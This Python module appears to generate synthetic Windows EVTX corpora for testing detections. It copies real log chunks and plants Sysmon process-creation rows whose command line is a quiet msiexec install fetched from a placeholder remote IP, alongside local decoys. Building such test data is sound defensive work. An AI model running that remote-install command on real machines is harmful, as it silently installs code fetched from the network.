"""EVTX corpora: chunks of real logs, copied with other record numbers and times, rows planted.

A copy keeps the length of everything: record numbers, times and GUIDs are overwritten where they
stand, texts by texts of equal length, and the checksums computed anew. It knows of the format what
that needs (file and chunk headers, record headers, the array of values behind a template) and no
more. The layout: libyal's "Windows XML Event Log (EVTX)" format documentation.
"""

import random
import struct
import zlib
from dataclasses import dataclass
from pathlib import Path

CHUNK = 65_536
HEADER = 4096
RECORDS = 512  # where the first record of a chunk begins
FULL = 60_000  # a chunk filled so far counts as well-filled
SEED = 0x61D1E8
DAY = 864_000_000_000  # in FILETIME's 100 ns
TEXT, FILETIME, GUID, UINT32, UINT64, BINXML = 0x01, 0x11, 0x0F, 0x08, 0x0A, 0x21
CREATION = 1

# What stands at the head of a file before its first chunk.
FILE = struct.Struct("<8sQQQIHHHH")


class Chunk:
    """A chunk to copy: its bytes and where its numbers stand."""

    def __init__(self, data):
        self.data = data
        self.records = []  # offsets of the records
        self.numbers = []  # (offset, record number there)
        self.times = []  # (offset, time there)
        self.owners = []  # (offset, first word there) of the GUIDs of processes and logons
        self.donors = []  # creations that can be made a row
        offset, free = RECORDS, struct.unpack_from("<I", data, 48)[0]
        while offset + 24 <= free and data[offset : offset + 4] == b"**\0\0":
            size, number, time = struct.unpack_from("<IQQ", data, offset + 4)
            if size < 28 or offset + size > free:
                break
            self.records.append(offset)
            self.numbers.append((offset + 8, number))
            self.times.append((offset + 16, time))
            self.inside(offset, size, number, time)
            offset += size

    def inside(self, offset, size, number, time):
        """Where the values of a record say its number and its time once more, and whether it is
        a creation to plant in."""
        try:
            outer, _ = values(self.data, offset + 24 + 4)
        except (struct.error, ValueError):
            return
        for kind, start, length in outer:
            if kind == UINT64 and length == 8 and struct.unpack_from("<Q", self.data, start)[0] == number:
                self.numbers.append((start, number))
            elif kind == FILETIME and length == 8 and struct.unpack_from("<Q", self.data, start)[0] == time:
                self.times.append((start, time))
            elif kind == BINXML and start + length <= offset + size:
                try:
                    inner, _ = values(self.data, start + 4)
                except (struct.error, ValueError):
                    continue
                for what, place, width in inner:
                    if what == GUID and width == 16:
                        self.owners.append((place, struct.unpack_from("<I", self.data, place)[0]))
                donor = creation(self.data, inner)
                if donor:
                    self.donors.append(donor)

    @property
    def first(self):
        """The number of its first record."""
        return self.numbers[0][1]

    def span(self):
        """How many record numbers it takes."""
        return max(number for _, number in self.numbers) - self.first + 1


def values(data, at):
    """The values of the template instance at `at`: (type, offset, length) each, and where they end."""
    if data[at] != 0x0C:
        raise ValueError("no template instance")
    definition = struct.unpack_from("<I", data, at + 6)[0]
    at += 10
    if definition == at:
        # The definition stands here as its first use: link, GUID, size, then so many bytes.
        at += 24 + struct.unpack_from("<I", data, at + 20)[0]
    count = struct.unpack_from("<I", data, at)[0]
    if count > 256:
        raise ValueError("too many values")
    at += 4
    start = at + 4 * count
    found = []
    for n in range(count):
        length, kind = struct.unpack_from("<HB", data, at + 4 * n)
        found.append((kind, start, length))
        start += length
    if start > len(data):
        raise ValueError("values behind the end")
    return found, start


def creation(data, inner):
    """(GUID, image, command line) of a Sysmon process creation, each (offset, length), when its
    texts are long enough for a row; else nothing.

    The names of the values stand in the template. This goes by order: ProcessGuid, ProcessId, Image
    ... CommandLine, CurrentDirectory, User, LogonGuid, as in all versions of the event.
    """
    kinds = [kind for kind, _, _ in inner]
    if kinds.count(GUID) < 3 or GUID not in kinds:
        return None
    first = kinds.index(GUID)
    logon = kinds.index(GUID, first + 1)
    if kinds[first + 1 : first + 3] != [UINT32, TEXT] or logon - first not in (6, 10, 11):
        return None
    image, command = inner[first + 2], inner[logon - 3]
    texts = (as_text(data, image), as_text(data, command))
    if not texts[0].lower().endswith(".exe") or len(texts[0]) < 16 or len(texts[1]) < 46:
        return None
    return inner[first][1:], image[1:], command[1:]


def as_text(data, value):
    """A text value."""
    kind, start, length = value
    return data[start : start + length].decode("utf-16-le", "replace") if kind == TEXT else ""


@dataclass
class Log:
    """A file to copy from: its used chunks, and how long it is with the unused ones behind them."""

    chunks: list
    size: int

    def donors(self):
        """The chunks that a row can be planted in."""
        return [chunk for chunk in self.chunks if chunk.donors]


def of_file(path):
    """The log of an EVTX file, or nothing when a chunk of it does not verify or none is used."""
    try:
        data = path.read_bytes()
    except OSError:
        return None
    if data[:8] != b"ElfFile\0":
        return None
    found = []
    for offset in range(HEADER, len(data) - CHUNK + 1, CHUNK):
        chunk = data[offset : offset + CHUNK]
        if not any(chunk[:8]):
            continue
        if not sound(chunk):
            return None
        found.append(Chunk(chunk))
    found = [chunk for chunk in found if chunk.records]
    return Log(found, len(data)) if found else None


def sound(chunk):
    """Whether magic and checksums are right."""
    free, = struct.unpack_from("<I", chunk, 48)
    if chunk[:8] != b"ElfChnk\0" or not RECORDS < free <= CHUNK:
        return False
    return struct.unpack_from("<I", chunk, 124)[0] == header_sum(chunk) and struct.unpack_from("<I", chunk, 52)[
        0
    ] == zlib.crc32(chunk[RECORDS:free])


def header_sum(chunk):
    """The checksum of a chunk's header."""
    return zlib.crc32(chunk[128:RECORDS], zlib.crc32(chunk[:120]))


def names_msiexec(data):
    """Whether the words of the rule stand in it, in either encoding: such chunks are left out, so
    that what is planted is all that there is."""
    lower = data.lower()
    return b"msiexec" in lower or "msiexec".encode("utf-16-le") in lower


def base(folder):
    """The logs to copy from, without those that name msiexec."""
    logs = (of_file(path) for path in sorted(Path(folder).rglob("*.evtx")))
    return [log for log in logs if log and not any(names_msiexec(chunk.data) for chunk in log.chunks)]


def equal(text, length):
    """`text` made `length` characters long."""
    return (text + "x" * length)[:length]


class Writer:
    """Copies chunks, and keeps the account of what was planted."""

    def __init__(self):
        self.guids = []
        self.decoys = 0
        self.records = 0

    def copy(self, chunk, number, turn, plant):
        """The copy of a round: its records are numbered from `number` on, `turn` days later and of
        other processes; with `plant` its first fitting creation is a row, and the last a decoy
        when there are two."""
        data = bytearray(chunk.data)
        delta = number - chunk.first
        for offset, old in chunk.numbers:
            struct.pack_into("<Q", data, offset, old + delta)
        for offset, old in chunk.times:
            struct.pack_into("<Q", data, offset, old + turn * DAY)
        for offset, old in chunk.owners:
            struct.pack_into("<I", data, offset, old ^ turn)
        last = number + chunk.span() - 1
        struct.pack_into("<QQQQ", data, 8, number, last, number, last)
        if plant:
            self.plant(data, chunk.donors)
        free = struct.unpack_from("<I", data, 48)[0]
        struct.pack_into("<I", data, 52, zlib.crc32(data[RECORDS:free]))
        struct.pack_into("<I", data, 124, header_sum(data))
        self.records += len(chunk.records)
        return data

    def plant(self, data, donors):
        """Makes a row of the first donor."""
        n = len(self.guids)
        guid = struct.pack("<IHH", 0xB0000000 + n, n & 0xFFFF, 0x65E0) + struct.pack(">HHI", n >> 16, 0xBE4C, n)
        place, image, command = donors[0]
        data[place[0] : place[0] + 16] = guid
        self.write(data, image, "msiexec.exe")
        text = f"msiexec /q /i http{'s' * (n % 2)}://203.0.113.9/{n:06}/"
        length = command[1] // 2
        data[command[0] : command[0] + command[1]] = equal(text, length).encode("utf-16-le")
        first, second, third = struct.unpack("<IHH", guid[:8])
        self.guids.append(f"{{{first:08x}-{second:04x}-{third:04x}-{guid[8:10].hex()}-{guid[10:].hex()}}}")
        if len(donors) > 1:
            _, image, command = donors[-1]
            self.write(data, image, "msiexec.exe")
            plain = equal(r"msiexec.exe /i C:\Windows\Temp\setup.msi /qn ", command[1] // 2)
            data[command[0] : command[0] + command[1]] = plain.encode("utf-16-le")
            self.decoys += 1

    @staticmethod
    def write(data, image, name):
        """Writes a path of equal length that ends in `name`."""
        start, size = image
        length = size // 2
        path = equal("C:\\Windows\\" + "System32" * length, length - len(name) - 1) + "\\" + name
        data[start : start + size] = path[:length].encode("utf-16-le")

    def account(self):
        """What is in the corpus."""
        return {"events": self.records, "rows": len(self.guids), "decoys": self.decoys, "guids": sorted(self.guids)}


def header(chunks, following):
    """The header of a file of so many chunks whose next record has the number `following`."""
    data = bytearray(HEADER)
    FILE.pack_into(data, 0, b"ElfFile\0", 0, chunks - 1, following, 128, 1, 3, HEADER, chunks)
    struct.pack_into("<I", data, 124, zlib.crc32(data[:120]))
    return bytes(data)


def dense(logs, size, path):
    """One file of well-filled chunks; one chunk in forty holds a row."""
    count = max(1, size // CHUNK)
    if count > 0xFFFF:
        raise SystemExit(f"an EVTX file holds 65,535 chunks at most, {count:,} are wanted")
    seen, full = set(), []
    for chunk in (chunk for log in logs for chunk in log.chunks):
        if struct.unpack_from("<I", chunk.data, 48)[0] >= FULL and chunk.data not in seen:
            seen.add(chunk.data)
            full.append(chunk)
    donors = [chunk for chunk in full if chunk.donors]
    if not donors:
        raise SystemExit("no well-filled chunk with a Sysmon process creation to plant a row in")
    spots = set(random.Random(SEED).sample(range(count), max(1, count // 40)))
    writer, number = Writer(), 1
    with open(path, "wb") as out:
        out.write(header(count, 0))
        for n in range(count):
            plant = n in spots
            chunk = donors[len(writer.guids) % len(donors)] if plant else full[n % len(full)]
            out.write(writer.copy(chunk, number, n // len(full), plant))
            number += chunk.span()
        out.seek(0)
        out.write(header(count, number))
    return writer.account() | {"chunks": count, "base": len(full)}


def many(logs, size, count, folder):
    """A folder of `count` logs of `size` bytes together; one in thirty-six holds a row. Logs are
    copied in turn; a long one more often when the folder would become too small."""
    hosts = [log for log in logs if log.donors()]
    long = [log for log in logs if log.size >= size // count] or logs
    if not hosts:
        raise SystemExit("no EVTX file with a Sysmon process creation to plant a row in")
    writer, written, turn = Writer(), 0, 0
    for n in range(count):
        plant = n % 36 == 18
        if plant:
            log = hosts[len(writer.guids) % len(hosts)]
        elif written < n * size // count:
            log = long[n % len(long)]
        else:
            log = logs[turn % len(logs)]
            turn += 1
        row = log.donors()[0] if plant else None
        out, number = [], 1 + n * 10_000
        for chunk in log.chunks:
            out.append(writer.copy(chunk, number, n // 40, chunk is row))
            number += chunk.span()
        text = header(len(out), number) + b"".join(out)
        place = folder / f"host-{n % 40:02}" / f"log-{n:04}.evtx"
        place.parent.mkdir(parents=True, exist_ok=True)
        written += place.write_bytes(text.ljust(log.size, b"\0"))
    return writer.account() | {"files": count, "bytes": written, "base": len(logs)}
